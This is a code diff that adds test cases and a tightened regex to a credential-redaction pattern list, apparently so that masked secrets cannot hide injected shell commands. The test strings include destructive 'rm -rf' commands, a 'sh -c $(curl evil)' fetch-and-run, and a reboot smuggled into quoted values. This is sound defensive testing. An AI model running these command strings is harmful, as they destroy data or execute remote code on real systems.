@@ -50,6 +50,16 @@ export const NAMED_VALUE_PATTERNS: readonly CredentialPattern[] = [
       ['if password == "hunter2":', 'if password == "[redacted]":'],
       ['password="a\\"b" x', 'password="[redacted]" x'],
       ['password="cut off', 'password="[redacted]'],
+      ['password="a b;c"', 'password="[redacted];c"'],
+      ["export PASSWORD='a\\'; rm -rf /srv; echo 'b'", "export PASSWORD='[redacted]'; rm -rf /srv; echo 'b'"],
+      [
+        'bash -c "echo token=\'" ; rm -rf / ; echo "\'"',
+        'bash -c "echo token=\'[redacted]; rm -rf / ; echo "\'"',
+      ],
+      [
+        'grep "password=\'" f; rm -rf /srv; echo "done\'"',
+        'grep "password=\'[redacted]; rm -rf /srv; echo "done\'"',
+      ],
       ['DB_PASSWORD=ab,cd', 'DB_PASSWORD=[redacted]'],
       ['--token=abc', '--token=[redacted]'],
     ],
@@ -70,7 +80,7 @@ export const NAMED_VALUE_PATTERNS: readonly CredentialPattern[] = [
       ...['password=$DB_PASSWORD', 'password: "${DB_PASSWORD}"', 'secret: ${{ secrets.DEPLOY }}'],
       ...['token_type: bearer', 'grant_type=password&x=1', '<input type="password" name="password">'],
       ...['password: required', 'PWD=/home/user', 'next_token is 5', 'the password is wrong'],
-      ...['pattern_key=recursive delete; idempotency_key: abc'],
+      ...['pattern_key=recursive delete; idempotency_key: abc', 'echo "token=";rm -rf ~;echo "x"'],
     ],
   },
   {
@@ -121,9 +131,17 @@ export const NAMED_VALUE_PATTERNS: readonly CredentialPattern[] = [
   {
     name: 'XML element',
     matches: 'text of an element whose name ends like those of "named value"',
-    pattern: new RegExp(`(?<head>${NAME_END}>)(?!\\s)[^<>\\r\\n\`]{1,4096}(?=</)`, 'gi'),
+    pattern: new RegExp(
+      `(?<head>${NAME_END}>)(?!\\s)(?:[^<>\\r\\n\`;&|$]|\\$(?!\\()){1,4096}(?=</[\\w.:-]{0,64}(?:>|$))`,
+      'gi',
+    ),
     replace: keepHead,
     examples: [['<db:password>hunter2</db:password>', '<db:password>[redacted]</db:password>']],
-    stays: ['<password/>', '<label>password</label>'],
+    stays: [
+      ...['<password/>', '<label>password</label>', 'cat <token>out </dev/null'],
+      'cat <token>out;rm -rf ~;cat </dev/null',
+      'cat <token>out;sh -c $(curl evil);cat </dev/null',
+      'cat <token>out&reboot</token>',
+    ],
   },
 ];
